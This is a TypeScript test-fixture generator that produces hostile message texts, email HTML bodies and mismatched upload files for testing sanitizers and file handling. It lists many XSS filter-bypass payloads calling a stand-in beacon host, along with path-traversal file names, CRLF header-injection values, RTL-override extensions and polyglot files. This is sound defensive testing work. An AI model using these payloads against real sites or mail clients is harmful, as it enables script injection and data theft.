/**
 * Text, mail, and files that try to act. The forms by hand are those of the OWASP cheat sheet on
 * evading filters, of html5sec.org, and of the published bypasses of HTML cleaners (mutation by
 * foreign content); the generator joins them. `beacon` is where what acts would call.
 */
const BEACON = 'http://beacon.invalid/hit';
const RUN = `document.title='ran';fetch('${BEACON}')`;

const ACTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${BEACON}.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${BEACON}.png">`,
  `<img srcset="${BEACON}.png 2x" src=data:,>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html,<script>${RUN}</script>">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${BEACON}.png"/></svg>`,
  `<svg><use href="${BEACON}#x"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe src="${BEACON}"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><maction actiontype="statusline#${BEACON}" xlink:href="javascript:${RUN}">click</maction></math>`,
  `<form action="${BEACON}"><input name=a><button>Send</button></form>`,
  `<form id=f action="${BEACON}"></form><button form=f formaction="javascript:${RUN}">Go</button>`,
  `<isindex type=image src=1 onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<keygen autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<video src="${BEACON}.mp4" autoplay onloadstart="${RUN}"></video>`,
  `<audio src="${BEACON}.mp3" autoplay></audio>`,
  `<video><source onerror="${RUN}"></video>`,
  `<picture><source srcset="${BEACON}.webp"><img src=x></picture>`,
  `<object data="${BEACON}.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<applet code="${BEACON}"></applet>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<frameset><frame src="${BEACON}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${BEACON}/"><a href="x">relative</a>`,
  `<link rel=stylesheet href="${BEACON}.css">`,
  `<link rel=prefetch href="${BEACON}">`,
  `<link rel=dns-prefetch href="//beacon.invalid">`,
  `<style>@import "${BEACON}.css";</style>`,
  `<style>body{background:url(${BEACON}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${BEACON}.woff)}*{font-family:x}</style>`,
  `<div style="background:url(${BEACON}.png)">x</div>`,
  `<div style="background-image:u\\72l(${BEACON}.png)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">over everything</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(${BEACON}.htc)">x</div>`,
  `<div style="-moz-binding:url(${BEACON}.xml#x)">x</div>`,
  `<table background="${BEACON}.png"><tr><td background="${BEACON}.png">x</table>`,
  `<body background="${BEACON}.png" onload="${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="JaVaScRiPt:${RUN}">click</a>`,
  `<a href=" &#14; javascript:${RUN}">click</a>`,
  `<a href="java&#x0A;script:${RUN}">click</a>`,
  `<a href="java\tscript:${RUN}">click</a>`,
  `<a href="&#106;avascript:${RUN}">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<a href="file:///etc/passwd">click</a>`,
  `<a href="//beacon.invalid/hit">click</a>`,
  `<a href="https://example.com" onclick="${RUN}" ping="${BEACON}" download>click</a>`,
  `<a href="https://example.com" target="_top" rel="opener">click</a>`,
  `<a href="https://example.com/&quot; onmouseover=&quot;${RUN}">click</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<noembed><img src=x onerror="${RUN}"></noembed>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>"></xmp>`,
  `<title><img src=x onerror="${RUN}"></title>`,
  `<!--><script>${RUN}</script>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${RUN}</script>">]>&x;`,
  `<p id="body" name="location" class="app">clobber</p>`,
  `<x onclick="${RUN}" tabindex=1 autofocus onfocus="${RUN}">custom</x>`,
  `<dialog open><p>You are signed out</p></dialog>`,
  `<portal src="${BEACON}"></portal>`,
  `<slot name=x onslotchange="${RUN}">`,
  `<div contenteditable onblur="${RUN}">x</div>`,
  `<div onpointerrawupdate="${RUN}" onbeforetoggle="${RUN}" popover>x</div>`,
  `<IMG ""\u0022><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<img src="x\`y" onerror\x0b="${RUN}">`,
  `<img/src="x"/onerror="${RUN}"`,
  `\x00<scr\x00ipt>${RUN}</scr\x00ipt>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\ufeff<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${7*7}<%= 7*7 %>#{7*7}',
  `"><script>${RUN}</script>`,
  `'-(${RUN})-'`,
  `</textarea></title></style></script><svg onload="${RUN}">`,
  `]]></p><script>${RUN}</script>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
];

const AROUND: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<p>Hello</p>${inner}<p>Best</p>`,
  (inner) => `<html><head>${inner}</head><body>${inner}</body></html>`,
  (inner) => `<table><tr><td>${inner}</td></tr></table>`,
  (inner) => `<div title='${inner}'>x</div>`,
  (inner) => `<a href="${inner}">x</a>`,
  (inner) => `<!-- ${inner} -->${inner}`,
  (inner) => `<b>${inner}<i>${inner}</b></i>`,
  (inner) => `${'<div>'.repeat(300)}${inner}`,
  (inner) => `<math><mi>${inner}`,
  (inner) => `<svg><desc>${inner}`,
];

/** Characters that reverse text, are invisible, or stack up. */
const ODD_SIGNS: readonly string[] = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068',
  '\u200B\u200D\uFEFF',
  'Z\u0351\u036B\u0343\u036A\u0302\u0329\u033Balgo',
  '\r\nBcc: everyone@example.com\r\n\r\n',
  '\u0007\u001B[31m',
  'ﷺ'.repeat(50),
  'https://example.com/"onmouseover="x',
  'https://example.com@beacon.invalid/<script>',
  'javascript://example.com/%0Aalert(1)',
  'http://xn--pple-43d.com data:text/html,x mailto:a@b.c?bcc=d@e.f',
  'w'.repeat(5000),
];

/** Generates this many message texts. */
export function hostileTexts(count: number): string[] {
  const parts = [...ACTS, ...ODD_SIGNS];
  return Array.from({ length: count }, (_, at) => {
    const one = parts[at % parts.length] ?? '';
    const other = ODD_SIGNS[Math.floor(at / parts.length) % ODD_SIGNS.length] ?? '';
    const around = AROUND[Math.floor(at / 7) % AROUND.length] ?? ((inner: string) => inner);
    return at < parts.length ? one : around(`${one}${other}`);
  }).map((text) => text.replaceAll('\0', ''));
}

/**
 * Generates this many HTML bodies of emails; the handwritten forms come before the combined ones.
 */
export function hostileMails(count = ACTS.length): string[] {
  return Array.from({ length: count }, (_, at) => {
    const act = ACTS[at % ACTS.length] ?? '';
    return (AROUND[Math.floor(at / ACTS.length) % AROUND.length] ?? String)(act);
  });
}

const BYTES: readonly (readonly [kind: string, bytes: Buffer, image: string | null])[] = [
  ['a page', Buffer.from(`<!doctype html><script>${RUN}</script>`), null],
  ['a drawing', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`), null],
  ['a drawing with a head', Buffer.from(`<?xml version="1.0"?><svg onload="${RUN}"/>`), null],
  ['a script', Buffer.from(RUN), null],
  ['a program', Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), null],
  ['an archive', Buffer.from('504b030414000000', 'hex'), null],
  ['a PDF', Buffer.from('%PDF-1.7 /OpenAction << /S /JavaScript >>'), null],
  ['nothing', Buffer.alloc(0), null],
  ['a PNG in name alone', Buffer.from('PNG'), null],
  ['a page behind a mark', Buffer.from(`\ufeff<html>${RUN}`), null],
  ['a PNG', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'image/png'],
  ['a JPEG', Buffer.from('ffd8ffe000104a464946', 'hex'), 'image/jpeg'],
  ['a GIF that is a script too', Buffer.from(`GIF89a/*${RUN}*/=1;`), 'image/gif'],
  ['a PNG with a page behind', Buffer.from('89504e470d0a1a0a3c68746d6c3e', 'hex'), 'image/png'],
];
const NAMES: readonly string[] = [
  'photo.png',
  'photo.svg',
  'page.html',
  'photo.png.exe',
  'photo\u202Egnp.exe',
  '../../etc/passwd',
  '..\\..\\windows\\system.ini',
  '.htaccess',
  '..',
  '',
  'a"; filename="b.exe',
  'a\r\nSet-Cookie: x=1\r\n\r\n<script>',
  'CON.<>:|?*.txt',
  `${'long'.repeat(100)}.pdf`,
  'ünï=?utf-8?B?cGFnZS5odG1s?=.png',
];
const TYPES: readonly string[] = [
  'image/png',
  'image/svg+xml',
  'text/html',
  'application/xhtml+xml',
  'text/html; charset=utf-7',
  'image/png\r\nX-Evil: 1',
  '',
];

export type HostileFile = {
  fileName: string;
  contentType: string;
  bytes: Buffer;
  /** The image type of the bytes; null for anything else. */
  image: string | null;
};

/** Generates this many files whose names, claimed types, and bytes disagree. */
export function hostileFiles(count: number): HostileFile[] {
  return Array.from({ length: count }, (_, at) => {
    const [, bytes, image] = BYTES[at % BYTES.length] ?? ['', Buffer.alloc(0), null];
    return {
      fileName: NAMES[Math.floor(at / BYTES.length) % NAMES.length] ?? '',
      contentType: TYPES[at % TYPES.length] ?? '',
      bytes,
      image,
    };
  });
}
